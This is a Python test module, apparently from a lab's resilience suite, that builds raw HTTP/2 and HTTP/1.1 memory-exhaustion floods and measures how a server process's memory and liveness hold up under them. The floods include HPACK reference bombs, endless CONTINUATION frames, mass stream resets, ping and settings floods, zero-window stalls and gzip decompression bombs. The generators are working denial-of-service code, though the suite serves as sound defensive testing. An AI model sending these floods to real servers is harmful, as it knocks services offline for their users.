"""Floods: what a client can send so that a unit's memory grows, by raw HTTP/2 and HTTP/1.1; and the damage they do."""

from __future__ import annotations

import gzip
import socket
import ssl
import struct
import threading
import time
from collections.abc import Callable, Iterable, Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager, suppress
from dataclasses import dataclass
from datetime import timedelta
from functools import cache
from itertools import count, islice
from typing import Protocol

import hpack
import psutil

from lab.errors import DeadlineError
from lab.waiting import eventually

GRPC, REST = "gRPC", "REST"
CHECK = b"/grpc.health.v1.Health/Check"
_WATCH = b"/grpc.health.v1.Health/Watch"
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _PRIORITY, _RST, _SETTINGS, _PING, _GOAWAY, _WINDOW, _CONTINUATION, _UNKNOWN = (
    *range(5),
    *range(6, 10),
    99,
)
_END_STREAM, _END_HEADERS, _ACK = 1, 4, 1
_MB = 2**20
_AT_MOST_S, _HELD_S = 8.0, 2.0
_SAMPLE_S = 0.02
_BACK_AFTER = timedelta(seconds=30)


def _frame(kind: int, number: int, payload: bytes = b"", flags: int = 0) -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, number) + payload


def _literal(headers: Iterable[tuple[bytes, bytes]]) -> bytes:
    """Headers that enter no table."""
    return hpack.Encoder().encode([hpack.NeverIndexedHeaderTuple(*each) for each in headers], huffman=False)


def _request(path: bytes = CHECK, *extra: tuple[bytes, bytes]) -> bytes:
    its = ((b":method", b"POST"), (b":scheme", b"http"), (b":path", path), (b":authority", b"lab"))
    return _literal((*its, (b"te", b"trailers"), (b"content-type", b"application/grpc"), *extra))


def _message(body: bytes, *, length: int | None = None, compressed: bool = False) -> bytes:
    return struct.pack(">BI", compressed, len(body) if length is None else length) + body


def _unknown_field(size: int) -> bytes:
    """A protobuf message of one field that no API has, about as long as that."""
    return b"\x7a" + bytes([size & 127 | 128, size >> 7 & 127 | 128, size >> 14 & 127 | 128, size >> 21]) + bytes(size)


def _numbers() -> Iterator[int]:
    return count(1, 2)


def _referring(
    references: int, *, value: int = 3_900, streams: int = 1_700, index: int = 0, name: bytes = b"x-big"
) -> Iterator[bytes]:
    """Requests that refer many times to one header, of HPACK's static table or put into the dynamic one."""
    numbers = _numbers()
    if not index:
        put = hpack.Encoder().encode([(name, b"v" * value)], huffman=False)
        yield _frame(_HEADERS, next(numbers), _request() + put, _END_HEADERS)
    block = _request() + bytes([128 | (index or 62)]) * references
    for number in islice(numbers, streams):
        yield _frame(_HEADERS, number, block, _END_HEADERS)


_TURNS = count()


def _in_turn(frames: Iterator[bytes], *, of: int) -> Iterator[bytes]:
    """Those of one of so many connections that are all open before the first one sends."""
    yield _frame(_PING, 0, bytes(8))
    time.sleep(1.5 + 0.25 * (next(_TURNS) % of))
    yield from frames


def _in_pieces(piece: bytes, pieces: int, *, streams: int = 50) -> Iterator[bytes]:
    """Requests with a block of headers that does not end."""
    for number in islice(_numbers(), streams):
        yield _frame(_HEADERS, number, _request())
        yield _frame(_CONTINUATION, number, piece) * pieces
        yield _frame(_CONTINUATION, number, b"", _END_HEADERS)


def _trailers() -> Iterator[bytes]:
    put = hpack.Encoder().encode([(b"x-big", b"v" * 3_900)], huffman=False)
    for number in islice(_numbers(), 1_000):
        yield _frame(_HEADERS, number, _request() + put, _END_HEADERS)
        yield _frame(_HEADERS, number, b"\xbe" * 8_000, _END_HEADERS | _END_STREAM)


def _open(
    streams: int, *after: Callable[[int], bytes], path: bytes = CHECK, headers: Iterable[tuple[bytes, bytes]] = ()
) -> Iterator[bytes]:
    """Requests, each followed by these frames."""
    block = _request(path, *headers)
    for number in islice(_numbers(), streams):
        yield _frame(_HEADERS, number, block, _END_HEADERS) + b"".join(each(number) for each in after)


def _data(body: bytes, *, end: bool = True) -> Callable[[int], bytes]:
    """As much of a message as a new stream's window takes."""
    most = 16_384
    pieces = [body[at : at + most] for at in range(0, len(body), most)]
    return lambda number: b"".join(
        _frame(_DATA, number, each, _END_STREAM if end and each is pieces[-1] else 0) for each in pieces
    )


@cache
def _squeezed() -> bytes:
    return gzip.compress(_unknown_field(4 * _MB))


def _one_byte_each() -> Iterator[bytes]:
    yield _frame(_HEADERS, 1, _request(), _END_HEADERS)
    body = _message(_unknown_field(40_000))
    yield b"".join(_frame(_DATA, 1, body[at : at + 1]) for at in range(len(body)))


def _post(*lines: bytes) -> bytes:
    common = (b"POST /v1/ranking:rank HTTP/1.1", b"host: lab", b"content-type: application/json")
    return b"\r\n".join((*common, *lines, b"", b""))


@cache
def _squeezed_body() -> tuple[bytes]:
    body = gzip.compress(b'{"titles":[' + b" " * 60 * _MB + b"]}")
    return (_post(b"content-encoding: gzip", b"content-length: %d" % len(body)) + body,)


def _chunks(size: int, total: int) -> Iterator[bytes]:
    yield _post(b"transfer-encoding: chunked")
    for _ in range(total // size):
        yield b"%x\r\n%s\r\n" % (size, bytes(size))


@dataclass(frozen=True, slots=True)
class Flood:
    """A pattern.

    Attributes:
        name: unique.
        frames: what each connection sends, in pieces.
        door: at which it is sent.
        connections: that send it at the same time.
        acknowledges: whether the client acknowledges the server's settings, whose limits hold from then on.
        reads: whether it reads what comes back.
        settings: of the client.
        again_s: for how long it connects again whenever it is cut, seconds.
    """

    name: str
    frames: Callable[[], Iterable[bytes]]
    door: str = GRPC
    connections: int = 1
    acknowledges: bool = False
    reads: bool = True
    settings: bytes = b""
    again_s: float = 0.0

    def send(self, address: str, context: ssl.SSLContext | None = None) -> None:
        """Sends all of it, as fast as the unit takes it, until that ends the connections; then waits for a moment."""
        with ThreadPoolExecutor(self.connections) as crew:
            list(crew.map(lambda _: self._send(address, context), range(self.connections)))

    def _send(self, address: str, context: ssl.SSLContext | None) -> None:
        until = time.monotonic() + self.again_s
        self._send_once(address, context)
        while time.monotonic() < until:
            self._send_once(address, context)

    def _send_once(self, address: str, context: ssl.SSLContext | None) -> None:
        host, port = address.rsplit(":", 1)
        until = time.monotonic() + _AT_MOST_S
        with suppress(OSError), ExitStack() as closing:
            connection: socket.socket = socket.create_connection((host, int(port)), timeout=_AT_MOST_S)
            closing.enter_context(connection)
            if context:
                connection = closing.enter_context(context.wrap_socket(connection, server_hostname="lab.internal"))
            connection.settimeout(0.2)
            if self.door == GRPC:
                connection.sendall(_PREFACE + _frame(_SETTINGS, 0, self.settings))
                if self.acknowledges:
                    connection.recv(1 << 16)
                    connection.sendall(_frame(_SETTINGS, 0, flags=_ACK))
            for piece in self.frames():
                left = memoryview(piece)
                while left and time.monotonic() < until:
                    with suppress(TimeoutError):
                        left = left[connection.send(left[: 1 << 18]) :]
                    self._read(connection)
            self._wait(connection, min(until, time.monotonic() + _HELD_S))

    def _read(self, connection: socket.socket) -> None:
        if self.reads:
            connection.settimeout(0.0)
            with suppress(BlockingIOError, ssl.SSLWantReadError):
                if not connection.recv(1 << 18):
                    raise ConnectionResetError
            connection.settimeout(0.2)

    def _wait(self, connection: socket.socket, until: float) -> None:
        while time.monotonic() < until:
            if not self.reads:
                time.sleep(0.1)
                continue
            with suppress(TimeoutError):
                if not connection.recv(1 << 18):
                    return


_SETTINGS_FRAME = _frame(_SETTINGS, 0, struct.pack(">HI", 4, 65_535))
_NO_WINDOW = struct.pack(">HI", 4, 0)

FLOODS: tuple[Flood, ...] = (
    Flood("8,000 references to a header of 3,900 bytes", lambda: _referring(8_000)),
    Flood("the same, settings acknowledged", lambda: _referring(8_000), acknowledges=True),
    Flood("the same, on ten connections", lambda: _referring(8_000, streams=200), connections=10),
    Flood("the same, by a client that connects again when it is cut", lambda: _referring(8_000), again_s=8.0),
    Flood("the same, by four such clients", lambda: _referring(8_000), connections=4, again_s=8.0),
    Flood(
        "the same, on twelve connections in turn",
        lambda: _in_turn(_referring(8_000, streams=200), of=12),
        connections=12,
    ),
    Flood("8,000 references to a header of 100 bytes", lambda: _referring(8_000, value=100)),
    Flood("8,000 references to an empty header", lambda: _referring(8_000, value=0, name=b"x")),
    Flood("8,000 references to HPACK's static table", lambda: _referring(8_000, index=16)),
    Flood("8,000 references to a binary header", lambda: _referring(8_000, value=3_900, name=b"x-bin")),
    Flood("8,000 references to a cookie", lambda: _referring(8_000, index=32)),
    Flood("300 references on 4,000 streams", lambda: _referring(300, value=1, streams=4_000), acknowledges=True),
    Flood("references in trailers", _trailers),
    Flood("references in CONTINUATION", lambda: _in_pieces(b"\x90" * 4_000, 50)),
    Flood("empty CONTINUATION without an end", lambda: _in_pieces(b"", 100_000, streams=3)),
    Flood("literal headers in CONTINUATION", lambda: _in_pieces(_literal([(b"x", b"v" * 16_000)]), 200)),
    Flood("sizes of HPACK's table", lambda: _in_pieces(b"\x20\x3f\xe1\x1f" * 4_000, 20)),
    Flood("a header of 2 GB by its length", lambda: _in_pieces(b"\x10\x01x\x7f\x80\xff\xff\xff\x07", 1, streams=2_000)),
    Flood("4,000 streams left open", lambda: _open(4_000), acknowledges=True),
    Flood("50,000 streams, settings not acknowledged", lambda: _open(50_000)),
    Flood("50,000 streams, each reset", lambda: _open(50_000, lambda number: _frame(_RST, number, bytes(4)))),
    Flood(
        "50,000 streams that the server resets", lambda: _open(50_000, lambda number: _frame(_WINDOW, number, bytes(4)))
    ),
    Flood("100,000 pings", lambda: (_frame(_PING, 0, bytes(8)) * 1_000 for _ in range(100)), reads=False),
    Flood("100,000 settings", lambda: (_SETTINGS_FRAME * 1_000 for _ in range(100)), reads=False),
    Flood("100,000 priorities", lambda: (_frame(_PRIORITY, 2 * n + 1, bytes(5)) * 1_000 for n in range(100))),
    Flood("100,000 windows of a byte", lambda: (_frame(_WINDOW, 0, bytes((0, 0, 0, 1))) * 1_000 for _ in range(100))),
    Flood("100,000 unknown frames", lambda: (_frame(_UNKNOWN, 0, bytes(1_000)) * 1_000 for _ in range(100))),
    Flood("100,000 empty DATA", lambda: (*_open(1), *(_frame(_DATA, 1) * 1_000 for _ in range(100)))),
    Flood("1,000 farewells", lambda: (_frame(_GOAWAY, 0, bytes(8) + bytes(16_000)) for _ in range(1_000))),
    Flood("300 connections of one request", lambda: _open(1), connections=300, acknowledges=True),
    Flood(
        "answers to 4,000 requests, unread",
        lambda: _open(4_000, _data(_message(b""))),
        acknowledges=True,
        reads=False,
        settings=_NO_WINDOW,
    ),
    Flood(
        "4,000 streams of answers, no window",
        lambda: _open(4_000, _data(_message(b"")), path=_WATCH),
        acknowledges=True,
        settings=_NO_WINDOW,
    ),
    Flood(
        "40 messages that grow from 4 KB to 4 MB",
        lambda: _open(40, _data(_message(_squeezed(), compressed=True)), headers=[(b"grpc-encoding", b"gzip")]),
        acknowledges=True,
    ),
    Flood(
        "2,000 messages of 64 MB by their length",
        lambda: _open(2_000, _data(_message(b"", length=64 * _MB), end=False)),
        acknowledges=True,
    ),
    Flood("a message in frames of a byte", _one_byte_each, acknowledges=True),
    Flood("24 bodies that grow from 60 KB to 60 MB", _squeezed_body, REST, connections=24),
    Flood("chunks of a byte", lambda: _chunks(1, 200_000), REST, connections=4),
    Flood("100,000 headers", lambda: (_post(*(b"x-%d: v" % number for number in range(100_000))),), REST),
    Flood("a header of 20 MB", lambda: (_post(b"x: " + b"v" * 20 * _MB),), REST),
    Flood(
        "5,000 requests on one connection, unread",
        lambda: (_post(b"content-length: 2") + b"{}" for _ in range(5_000)),
        REST,
        reads=False,
    ),
)
SHORT = tuple(FLOODS[index] for index in (0, 2, 3, 8, 11, 19, 32, 35))
"""Those that grew most before there were bounds; enough for each change."""


MOST_GROWTH_MB, BACK_WITHIN = 100.0, 1.1
_BUSY_GROWTH_MB, _BUSY_KEPT = 300.0, 1.35


@dataclass(frozen=True, slots=True)
class Damage:
    """What a flood did.

    Attributes:
        before_mb: resident memory before it.
        peak_mb: the most during it, and until the last sample.
        after_mb: half a minute after, or as soon as it was back.
        lives: whether the process is still the same.
        unanswered: requests of others that were not answered.
    """

    before_mb: float
    peak_mb: float
    after_mb: float
    lives: bool
    unanswered: int

    def wrong(self, *, most_growth_mb: float = MOST_GROWTH_MB, most_kept: float = BACK_WITHIN) -> str:
        """What is beyond the bounds; empty if nothing is."""
        wrong = [] if self.lives else ["it ended"]
        if self.peak_mb - self.before_mb > most_growth_mb:
            wrong.append(f"grew by {self.peak_mb - self.before_mb:.0f} MB")
        if self.after_mb > self.before_mb * most_kept:
            wrong.append(f"kept {self.after_mb - self.before_mb:.0f} MB")
        if self.unanswered:
            wrong.append(f"{self.unanswered} requests of others unanswered")
        return ", ".join(wrong)

    def fatal(self) -> str:
        """What is beyond the bounds of a busy machine; without a guard a unit grows by gigabytes."""
        return self.wrong(most_growth_mb=_BUSY_GROWTH_MB, most_kept=_BUSY_KEPT)


@contextmanager
def _others(answers: Callable[[], bool]) -> Iterator[list[bool]]:
    """Asks in the name of others while the block runs; whether each was answered."""
    found, done = list[bool](), threading.Event()

    def ask() -> None:
        while not done.wait(0.1):
            found.append(answers())

    thread = threading.Thread(target=ask)
    thread.start()
    try:
        yield found
    finally:
        done.set()
        thread.join()


class Sends(Protocol):
    """A flood, as far as its damage is concerned."""

    def send(self, address: str, context: ssl.SSLContext | None = None) -> None:
        """Sends all of it."""


def damage_by(
    flood: Sends, address: str, pid: int, answers: Callable[[], bool], context: ssl.SSLContext | None = None
) -> Damage:
    """Floods a process, while others ask it.

    Args:
        flood: what is sent.
        address: where.
        pid: of the process.
        answers: asks it for something, and says whether it answered.
        context: of TLS; None for plaintext.
    """
    process = psutil.Process(pid)
    before = _resident_mb(process)
    done = threading.Event()
    sampled = [before]

    def sample() -> None:
        while not done.wait(_SAMPLE_S):
            sampled.append(_resident_mb(process))

    sampler = threading.Thread(target=sample)
    sampler.start()
    try:
        with _others(answers) as answered:
            flood.send(address, context)
        with suppress(DeadlineError):
            eventually("memory is back", lambda: _resident_mb(process) <= before * BACK_WITHIN, within=_BACK_AFTER)
    finally:
        done.set()
        sampler.join()
    lives = process.is_running() and process.status() != psutil.STATUS_ZOMBIE
    return Damage(before, max(sampled), _resident_mb(process), lives, answered.count(False))


def _resident_mb(process: psutil.Process) -> float:
    try:
        return float(process.memory_info().rss) / 1e6
    except psutil.NoSuchProcess:
        return 0.0
